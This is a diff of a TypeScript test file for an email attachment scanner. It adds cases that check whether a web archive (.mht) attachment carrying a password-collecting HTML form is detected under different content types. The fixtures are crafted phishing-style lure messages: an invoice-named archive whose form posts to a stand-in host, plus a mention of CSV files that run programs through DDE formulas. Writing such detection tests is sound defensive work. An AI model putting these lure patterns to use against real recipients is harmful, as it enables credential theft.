@@ -176,7 +176,7 @@ test("a CSV file's DDE formula, whatever the part's type (text/csv, Excel's, an 
   expect((await scanOf(withAttachment(csv, "Invoice_0412.csv", "text/csv"))).notes).toContain("attachments: csv file runs a program through a DDE formula when opened in Excel");
 });
 
-test("a web archive's page (.mht, parsed as an attached message, plain or base64) is an attached page; a forwarded message's HTML, and the parts after the archive, are not", () => {
+test("a web archive's page (.mht, parsed as an attached message, plain or base64, or under any type) is an attached page; a forwarded message's HTML, and the parts after the archive, are not", () => {
   const page = '<html><body><form action="https://x.example/a"><input type="password" name="p"></form></body></html>';
   const mht = `MIME-Version: 1.0\nContent-Type: multipart/related; type="text/html"; boundary=r\n\n--r\nContent-Type: text/html\nContent-Location: https://x.example/\n\n${page}\n--r--\n`;
   const msg = (name: string, after = "") =>
@@ -187,6 +187,9 @@ test("a web archive's page (.mht, parsed as an attached message, plain or base64
   // The archive base64-encoded (RFC 2046 forbids it for message/rfc822; mail programs do it and readers decode it).
   const encoded = new TextEncoder().encode(`From: a@sender.example\nTo: user@example.com\nSubject: x\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/plain\n\nsee attached\n--b\nContent-Type: message/rfc822; name="Invoice_0412.mht"\nContent-Disposition: attachment; filename="Invoice_0412.mht"\nContent-Transfer-Encoding: base64\n\n${Buffer.from(mht).toString("base64")}\n--b--\n`);
   expect(archiveSigns(encoded)).toEqual(["ATTACH_HTML", "ATTACH_HTML_FORM"]);
+  // Sent as an octet stream or as application/x-mimearchive: Windows goes by the name.
+  for (const type of ["application/octet-stream", "application/x-mimearchive"]) expect(archiveSigns(withAttachment(new TextEncoder().encode(mht), "Invoice_0412.mht", type))).toEqual(["ATTACH_HTML", "ATTACH_HTML_FORM"]);
+  expect(archiveSigns(withAttachment(new TextEncoder().encode(mht), "Invoice_0412.eml", "application/octet-stream"))).toEqual([]);
   // An inline HTML part after the web archive, back at the top level, is the mail's own: its script is no attached page's.
   expect(archiveSigns(msg("Invoice_0412.mht", "--b\nContent-Type: text/html\n\n<p>hi</p><script>track()</script>\n"))).toEqual(["ATTACH_HTML", "ATTACH_HTML_FORM"]);
   expect(archiveSigns(msg("Invoice_0412.mht", "--b\nContent-Type: multipart/alternative; boundary=c\n\n--c\nContent-Type: text/html\n\n<p>hi</p><script>track()</script>\n--c--\n"))).toEqual(["ATTACH_HTML", "ATTACH_HTML_FORM"]);
